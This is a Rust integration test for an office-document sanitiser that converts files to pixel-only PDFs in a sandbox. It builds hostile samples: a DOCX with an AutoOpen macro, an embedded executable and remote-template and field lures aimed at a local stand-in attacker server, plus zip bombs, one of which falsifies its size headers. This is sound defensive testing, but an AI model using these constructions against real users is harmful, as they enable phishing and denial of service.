//! Sanitise office documents (issue 17, item 4) end to end: a real
//! zion-sandboxd (`--no-profiles`) on a private bus and a private Podman,
//! the real converter image (LibreOffice headless beside poppler), gVisor
//! when it is installed. The documents are made here, member by member,
//! with the `zip` crate; what comes back is judged by real parsers (qpdf,
//! poppler). Hostile documents end in clear refusals in bounded time, and
//! nothing they name on the network is ever reached.

mod quarantine_support;
mod sanitise_support;

use std::io::{Cursor, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::time::{Duration, Instant};

use quarantine_support::*;
use sanitise_support::*;
use zion_bus::quarantine::ItemInfo;
use zion_tests::TestEnv;

fn tools_here() -> bool {
    [
        ("qpdf", "qpdf"),
        ("pdfinfo", "poppler-utils"),
        ("pdftotext", "poppler-utils"),
        ("pdfdetach", "poppler-utils"),
        ("pdftoppm", "poppler-utils"),
    ]
    .iter()
    .all(|(program, package)| zion_tests::skip::installed(program, package))
}

/// The gVisor Podman when runsc is installed (a missing runsc is a skip of
/// gVisor, not of the test: the converter then runs under hardened runc).
fn gvisor(env: &TestEnv) -> Option<zion_tests::GvisorService> {
    zion_tests::skip::program_missing("runsc", "runsc")
        .is_none()
        .then(|| env.podman().start_gvisor().expect("the gVisor Podman"))
}

/// A zip of `members`, in order; `stored` members are not compressed.
fn zip_of(members: &[(&str, &[u8], bool)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data, stored) in members {
        let method = if *stored {
            zip::CompressionMethod::Stored
        } else {
            zip::CompressionMethod::Deflated
        };
        let opts = zip::write::SimpleFileOptions::default().compression_method(method);
        w.start_file(*name, opts).expect("member");
        w.write_all(data).expect("member data");
    }
    w.finish().expect("zip").into_inner()
}

const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A Word document (Office Open XML) of two pages whose first reads
/// `text`, carrying what attackers put in one: a VBA project (macros), a
/// hyperlink, a picture and a template fetched from `url` when opened,
/// and an embedded program.
fn hostile_docx(text: &str, url: &str) -> Vec<u8> {
    let content_types = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
<Default Extension="exe" ContentType="application/octet-stream"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>
</Types>"#;
    let rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>
</Relationships>"#
    );
    let document_rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="{REL}/hyperlink" Target="{url}/claim" TargetMode="External"/>
<Relationship Id="rId2" Type="{REL}/image" Target="{url}/tracker.png" TargetMode="External"/>
<Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
<Relationship Id="rId4" Type="{REL}/package" Target="embeddings/payload.exe"/>
<Relationship Id="rId5" Type="{REL}/settings" Target="settings.xml"/>
</Relationships>"#
    );
    let settings_rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="{url}/template.dotm" TargetMode="External"/>
</Relationships>"#
    );
    let settings = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{REL}">
<w:attachedTemplate r:id="rId1"/><w:linkStyles/>
</w:settings>"#
    );
    let document = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{REL}">
<w:body>
<w:p><w:r><w:rPr><w:sz w:val="72"/></w:rPr><w:t>{text}</w:t></w:r></w:p>
<w:p><w:hyperlink r:id="rId1"><w:r><w:rPr><w:sz w:val="48"/></w:rPr><w:t>Click here to claim your refund</w:t></w:r></w:hyperlink></w:p>
<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;{url}/field.png&quot; \d"><w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>
<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{url}/include.txt&quot;"><w:r><w:t>included</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:br w:type="page"/></w:r></w:p>
<w:p><w:r><w:rPr><w:sz w:val="72"/></w:rPr><w:t>Second page</w:t></w:r></w:p>
</w:body>
</w:document>"#
    );
    // What a macro-enabled document's VBA project starts with; the
    // Auto_Open name is what macro-scanners look for.
    let vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n";
    zip_of(&[
        ("[Content_Types].xml", content_types.as_bytes(), false),
        ("_rels/.rels", rels.as_bytes(), false),
        ("word/document.xml", document.as_bytes(), false),
        (
            "word/_rels/document.xml.rels",
            document_rels.as_bytes(),
            false,
        ),
        ("word/settings.xml", settings.as_bytes(), false),
        (
            "word/_rels/settings.xml.rels",
            settings_rels.as_bytes(),
            false,
        ),
        ("word/vbaProject.bin", vba, false),
        (
            "word/embeddings/payload.exe",
            b"MZ\x90\0\x03\0\0\0 an embedded program",
            false,
        ),
    ])
}

/// An OpenDocument text of one page reading `text`, with a link to `url`.
fn odt(text: &str, url: &str) -> Vec<u8> {
    let manifest = r#"<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
<manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.text"/>
<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
</manifest:manifest>"#;
    let content = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">
<office:automatic-styles><style:style style:name="Big" style:family="paragraph"><style:text-properties fo:font-size="36pt"/></style:style></office:automatic-styles>
<office:body><office:text>
<text:p text:style-name="Big">{text}</text:p>
<text:p text:style-name="Big"><text:a xlink:type="simple" xlink:href="{url}/notes">the minutes online</text:a></text:p>
</office:text></office:body>
</office:document-content>"#
    );
    zip_of(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text", true),
        ("META-INF/manifest.xml", manifest.as_bytes(), false),
        ("content.xml", content.as_bytes(), false),
    ])
}

/// A listener standing in for the attacker's server, on an address of
/// this host other containers could reach (not loopback, which inside a
/// container is its own), and the URL naming it.
fn attacker_server() -> (TcpListener, String) {
    let listener = TcpListener::bind("0.0.0.0:0").expect("listener");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("port").port();
    // The address the host would use to go out (no packet is sent).
    let host = UdpSocket::bind("0.0.0.0:0")
        .and_then(|s| s.connect("198.18.0.1:9").map(|()| s))
        .and_then(|s| s.local_addr())
        .map(|a| a.ip().to_string())
        .unwrap_or_else(|_| "127.0.0.1".to_owned());
    (listener, format!("http://{host}:{port}"))
}

/// Whoever connected to the attacker's server.
fn visitors(listener: &TcpListener) -> Vec<String> {
    let mut seen = Vec::new();
    while let Ok((_, peer)) = listener.accept() {
        seen.push(peer.to_string());
    }
    seen
}

/// The share of dark pixels on page 1 of `pdf`, drawn by poppler: text
/// drawn as pixels darkens a page, a blank one has none.
fn ink(pdf: &Path, dir: &Path) -> f64 {
    let prefix = dir.join("page");
    let out = std::process::Command::new("pdftoppm")
        .args([
            "-r",
            "40",
            "-f",
            "1",
            "-l",
            "1",
            "-gray",
            "-png",
            "-singlefile",
        ])
        .arg(pdf)
        .arg(&prefix)
        .output()
        .expect("pdftoppm runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let file = std::fs::File::open(prefix.with_extension("png")).expect("page png");
    let mut reader = png::Decoder::new(file).read_info().expect("png");
    let mut buf = vec![0; reader.output_buffer_size()];
    let info = reader.next_frame(&mut buf).expect("frame");
    let pixels = &buf[..info.buffer_size()];
    let dark = pixels.iter().filter(|&&p| p < 128).count();
    dark as f64 / pixels.len() as f64
}

/// What the copy must not have: text, scripts, actions, links,
/// attachments. Panics with what it found.
fn assert_pixels_only(safe: &Path, words: &[&str]) {
    assert!(scripts_in(safe).is_empty(), "{:?}", scripts_in(safe));
    let (ok, json) = tool("qpdf", &["--json=2", "--json-key=qpdf"], safe);
    assert!(ok, "{json}");
    for key in ["/URI", "/Annots", "/Link", "/XFA", "/AcroForm"] {
        assert!(
            !json.contains(&format!("\"{key}\"")),
            "{key} in the copy:\n{}",
            &json[..json.len().min(4000)]
        );
    }
    let text = text_of(safe);
    for word in words {
        assert!(
            !text.contains(word),
            "the copy holds text, not pixels: {text:?}"
        );
    }
    assert!(
        text.trim().is_empty(),
        "the copy has a text layer: {text:?}"
    );
    let (ok, attached) = tool("pdfdetach", &["-list"], safe);
    assert!(ok && attached.contains("0 embedded files"), "{attached}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn office_documents_come_back_as_pdfs_of_pixels_without_macros_links_or_objects() {
    if !tools_here() {
        return;
    }
    let env = TestEnv::new().expect("test environment");
    write_config(&env, REVIEW_OUTBOX);
    let gvisor = gvisor(&env);
    let mut vars = Vec::new();
    if let Some(g) = &gvisor {
        vars.push(("ZION_SANITISE_PODMAN", g.uri()));
    }
    let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let daemon = start_daemon(&env, &vars);
    let (_bus, proxy) = connect_quarantine(&env).await;
    let (server, url) = attacker_server();
    // The text check can fail: poppler reads a text layer where there is one.
    let text_pdf = env.root().join("text.pdf");
    std::fs::write(&text_pdf, pdf(1, INVOICE, false, false)).expect("pdf");
    assert!(text_of(&text_pdf).contains("Invoice 42"));

    // Word, with macros, links and an embedded program. The check below
    // can fail: the original holds all of it.
    let docx = hostile_docx("Quarterly figures 42", &url);
    let original = quarantined(&env, &proxy, "figures.docx", &docx).await;
    let members: Vec<String> = zip::ZipArchive::new(Cursor::new(&docx))
        .expect("the test's docx")
        .file_names()
        .map(|n| n.expect("a member name").into_owned())
        .collect();
    assert!(
        members.iter().any(|m| m == "word/vbaProject.bin")
            && members.iter().any(|m| m == "word/embeddings/payload.exe"),
        "{members:?}"
    );
    let started = Instant::now();
    let (copy_id, isolation, summary) = proxy
        .sanitise(original.id)
        .await
        .unwrap_or_else(|e| panic!("sanitise: {e}\n{}", daemon.log()));
    let docx_took = started.elapsed();
    let expected = if gvisor.is_some() {
        "gvisor"
    } else {
        "runc-hardened"
    };
    assert_eq!(isolation, expected, "{summary}\n{}", daemon.log());
    assert!(
        summary.contains("with no network (interfaces: lo)"),
        "{summary}"
    );
    // Logged just before the daemon answered; this test's thread that
    // reads the log may not have read it yet (a CI run saw it missing).
    daemon.wait_for_log(
        "zion-sanitise: libreoffice: convert",
        Duration::from_secs(10),
    );
    let copy = scanned(&proxy, |i| i.id == copy_id).await;
    assert_eq!(copy.name, "figures.sanitised.pdf");
    assert!(
        copy.source
            .starts_with(&format!("sanitised from #{}", original.id)),
        "{copy:?}"
    );
    assert_eq!(copy.state, "clean", "{copy:?}");
    let safe = object(&env, &copy);
    assert_eq!(pages_of(&safe), 2, "the page break survives");
    assert_pixels_only(&safe, &["Quarterly", "Click", "refund"]);
    let page_ink = ink(&safe, env.root());
    assert!(
        page_ink > 0.002,
        "page 1 is blank ({page_ink}): the text was not drawn"
    );

    // OpenDocument text, named as if it were a text file: told by content.
    let notes = odt("Meeting notes 7", &url);
    let original_odt = quarantined(&env, &proxy, "notes.txt", &notes).await;
    let started = Instant::now();
    let (odt_copy, _, summary) = proxy
        .sanitise(original_odt.id)
        .await
        .unwrap_or_else(|e| panic!("sanitise: {e}\n{}", daemon.log()));
    let odt_took = started.elapsed();
    let copy = scanned(&proxy, |i| i.id == odt_copy).await;
    assert_eq!(copy.name, "notes.sanitised.pdf", "{summary}");
    let safe = object(&env, &copy);
    assert_eq!(pages_of(&safe), 1);
    assert_pixels_only(&safe, &["Meeting", "minutes"]);
    assert!(ink(&safe, env.root()) > 0.002, "page 1 is blank");

    // Rich Text, named as a Word document: LibreOffice reads it as RTF.
    let rtf = format!(
        "{{\\rtf1\\ansi{{\\fonttbl\\f0\\fswiss Helvetica;}}\\f0\\fs72 Travel plan 9\\par          {{\\field{{\\*\\fldinst HYPERLINK \"{url}/trip\"}}{{\\fldrslt the booking}}}}\\par}}"
    );
    let original_rtf = quarantined(&env, &proxy, "plan.doc", rtf.as_bytes()).await;
    let (rtf_copy, _, _) = proxy
        .sanitise(original_rtf.id)
        .await
        .unwrap_or_else(|e| panic!("sanitise: {e}\n{}", daemon.log()));
    let copy = scanned(&proxy, |i| i.id == rtf_copy).await;
    let safe = object(&env, &copy);
    assert_pixels_only(&safe, &["Travel", "booking"]);
    assert!(ink(&safe, env.root()) > 0.002, "page 1 is blank");

    // The originals stay, unchanged; nothing was left; nothing went out.
    for item in [&original, &original_odt, &original_rtf] {
        let after = proxy.get(item.id).await.expect("original");
        assert_eq!(after.sha256, item.sha256);
        assert!(object(&env, item).exists());
    }
    assert!(leftovers(&env).is_empty(), "{:?}", leftovers(&env));
    assert_eq!(containers(&env), "");
    assert_eq!(
        visitors(&server),
        Vec::<String>::new(),
        "the converter reached {url}"
    );
    eprintln!(
        "office sanitise ({isolation}): docx {:.1} s, odt {:.1} s",
        docx_took.as_secs_f64(),
        odt_took.as_secs_f64()
    );
}

/// A zip whose member `name` holds `size` zeros yet claims, in its local
/// header and its central directory, to hold `claimed` bytes: a bomb that
/// lies about its size.
fn lying_bomb(name: &str, size: usize, claimed: u32) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(9));
    for (member, data) in [
        ("[Content_Types].xml", &b"<Types/>"[..]),
        ("_rels/.rels", b"<Relationships/>"),
    ] {
        w.start_file(member, opts).expect("member");
        w.write_all(data).expect("data");
    }
    w.start_file(name, opts).expect("member");
    let chunk = vec![b'A'; 1 << 20];
    for _ in 0..size >> 20 {
        w.write_all(&chunk).expect("data");
    }
    let mut bytes = w.finish().expect("zip").into_inner();
    // The uncompressed size sits 8 bytes before the name in the local
    // header and 22 bytes before it in the central directory entry.
    let needle = name.as_bytes();
    let places: Vec<usize> = bytes
        .windows(needle.len())
        .enumerate()
        .filter(|(_, w)| *w == needle)
        .map(|(i, _)| i)
        .collect();
    assert_eq!(places.len(), 2, "the name once in each header");
    let (local, central) = (places[0], places[1]);
    bytes[local - 8..local - 4].copy_from_slice(&claimed.to_le_bytes());
    bytes[central - 22..central - 18].copy_from_slice(&claimed.to_le_bytes());
    bytes
}

/// Attack: what an attacker sends as an office document — a zip bomb that
/// says what it unpacks to, one that lies about it, a plain archive named
/// .docx, a "document" that is a program, a document naming the attacker's
/// server — ends within the time limit in a clear refusal (or a copy of
/// pixels), no copy of the refused made, nothing left behind, and the
/// attacker's server never reached.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_office_files_end_in_clear_refusals_within_the_time_limit_and_reach_no_network() {
    if !tools_here() {
        return;
    }
    const LIMIT: u64 = 30;
    let env = TestEnv::new().expect("test environment");
    write_config(&env, REVIEW_OUTBOX);
    let gvisor = gvisor(&env);
    let mut vars = vec![("ZION_SANITISE_TIMEOUT", LIMIT.to_string())];
    if let Some(g) = &gvisor {
        vars.push(("ZION_SANITISE_PODMAN", g.uri()));
    }
    let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let daemon = start_daemon(&env, &vars);
    let (_bus, proxy) = connect_quarantine(&env).await;
    let (server, url) = attacker_server();

    // 300 members of a mebibyte of zeros each: 300 MiB from 300 KiB.
    let zeros = vec![0u8; 1 << 20];
    let mut honest: Vec<(String, &[u8], bool)> = vec![
        ("[Content_Types].xml".into(), b"<Types/>", false),
        ("word/document.xml".into(), b"<w:document/>", false),
    ];
    for i in 0..300 {
        honest.push((format!("word/media/image{i}.png"), &zeros, false));
    }
    let honest: Vec<(&str, &[u8], bool)> = honest
        .iter()
        .map(|(n, d, s)| (n.as_str(), *d, *s))
        .collect();
    let honest_bomb = zip_of(&honest);
    assert!(honest_bomb.len() < 2 << 20, "{}", honest_bomb.len());
    // 512 MiB that say they are 4 KiB: the host's look passes it, the
    // confined converter finds out.
    let liar = lying_bomb("word/document.xml", 512 << 20, 4096);
    assert!(liar.len() < 4 << 20, "{}", liar.len());

    // A million short paragraphs (a few megabytes of XML, about one
    // compressed): tens of thousands of pages to lay out.
    let paragraph = "<w:p><w:r><w:t>endless</w:t></w:r></w:p>";
    let endless_xml = format!(
        r#"<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>"#,
        paragraph.repeat(1_000_000)
    );
    let endless = zip_of(&[
        ("[Content_Types].xml", br#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#, false),
        ("_rels/.rels", format!(r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>"#).as_bytes(), false),
        ("word/document.xml", endless_xml.as_bytes(), false),
    ]);
    drop(endless_xml);

    // Whichever bound it meets first: memory or time.
    let cases: Vec<(&str, Vec<u8>, &str, &[&str])> = vec![
        (
            "endless.docx",
            endless,
            "Failed",
            &[
                "ran out of its 1024 MiB of memory",
                "did not finish within 30 s",
            ],
        ),
        (
            "bomb.docx",
            honest_bomb,
            "NotAllowed",
            &["refused before any conversion: its members unpack to more than 256 MiB"],
        ),
        (
            "liar.docx",
            liar,
            "Failed",
            &["one whose members hold other than they claim (a zip bomb?): Bad CRC-32"],
        ),
        (
            "archive.docx",
            zip_of(&[("readme.txt", b"just an archive", false)]),
            "NotAllowed",
            &["is not a PDF, an image or an office document"],
        ),
        (
            "invoice.doc.exe",
            b"MZ\x90\0\x03\0\0\0 a program named like a document".to_vec(),
            "NotAllowed",
            &["is not a PDF, an image or an office document"],
        ),
        (
            "broken.docx",
            b"PK\x03\x04 and then nothing a zip has".to_vec(),
            "NotAllowed",
            &["a zip that cannot be read"],
        ),
    ];
    for (name, bytes, error, reason) in cases {
        let item = quarantined(&env, &proxy, name, &bytes).await;
        let started = Instant::now();
        let err = proxy
            .sanitise(item.id)
            .await
            .expect_err(&format!("{name} must be refused"));
        let took = started.elapsed();
        let (kind, detail) = method_error(&err);
        assert_eq!(
            kind,
            format!("org.zionos.Quarantine1.Error.{error}"),
            "{name}: {detail}"
        );
        assert!(
            reason.iter().any(|r| detail.contains(r)),
            "{name}: {detail}\n{}",
            daemon.log()
        );
        assert!(
            took < Duration::from_secs(LIMIT + 20),
            "{name} took {took:?}"
        );
        eprintln!("{name}: refused in {:.1} s: {detail}", took.as_secs_f64());
        assert!(leftovers(&env).is_empty(), "{name}: {:?}", leftovers(&env));
        assert_eq!(containers(&env), "", "{name}");
    }

    // A document that tries to fetch a template, a picture and text from
    // the attacker's server when opened: converted, and nothing fetched.
    let lure = hostile_docx("Your invoice", &url);
    let item = quarantined(&env, &proxy, "lure.docx", &lure).await;
    let started = Instant::now();
    let (copy_id, _, summary) = proxy
        .sanitise(item.id)
        .await
        .unwrap_or_else(|e| panic!("sanitise: {e}\n{}", daemon.log()));
    assert!(started.elapsed() < Duration::from_secs(LIMIT + 20));
    assert!(summary.contains("(interfaces: lo)"), "{summary}");
    let copy = scanned(&proxy, |i| i.id == copy_id).await;
    assert_pixels_only(&object(&env, &copy), &["invoice", "refund"]);
    assert_eq!(
        visitors(&server),
        Vec::<String>::new(),
        "the converter reached {url}"
    );

    // No copy of anything refused.
    let items = proxy.list().await.expect("list");
    let copies: Vec<&ItemInfo> = items
        .iter()
        .filter(|i| i.source.starts_with("sanitised"))
        .collect();
    assert_eq!(copies.len(), 1, "{items:?}");
}

/// Where gVisor is missing, LibreOffice runs under runc with every
/// hardening (read-only root, nobody, no capabilities, a noexec tmpfs for
/// its profile): the copy is made all the same, and says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_gvisor_an_office_document_is_converted_under_hardened_runc() {
    if !tools_here() {
        return;
    }
    let env = TestEnv::new().expect("test environment");
    write_config(&env, REVIEW_OUTBOX);
    // A runtime Podman does not have: as on a machine without runsc.
    let daemon = start_daemon(&env, &[("ZION_SANITISE_RUNTIME", "zion-no-gvisor-here")]);
    let (_bus, proxy) = connect_quarantine(&env).await;
    let original = quarantined(
        &env,
        &proxy,
        "notes.odt",
        &odt("Meeting notes 7", "http://192.0.2.1"),
    )
    .await;
    let (ok, summary, err) = zionctl(&env, &["quarantine", "sanitise", &original.id.to_string()]);
    assert!(ok, "{err}\n{}", daemon.log());
    assert!(summary.contains("(isolation: runc-hardened)"), "{summary}");
    assert!(summary.contains("(interfaces: lo)"), "{summary}");
    let copy = scanned(&proxy, |i| i.name == "notes.sanitised.pdf").await;
    let safe = object(&env, &copy);
    assert_eq!(pages_of(&safe), 1);
    assert_pixels_only(&safe, &["Meeting"]);
    assert!(ink(&safe, env.root()) > 0.002, "page 1 is blank");
}
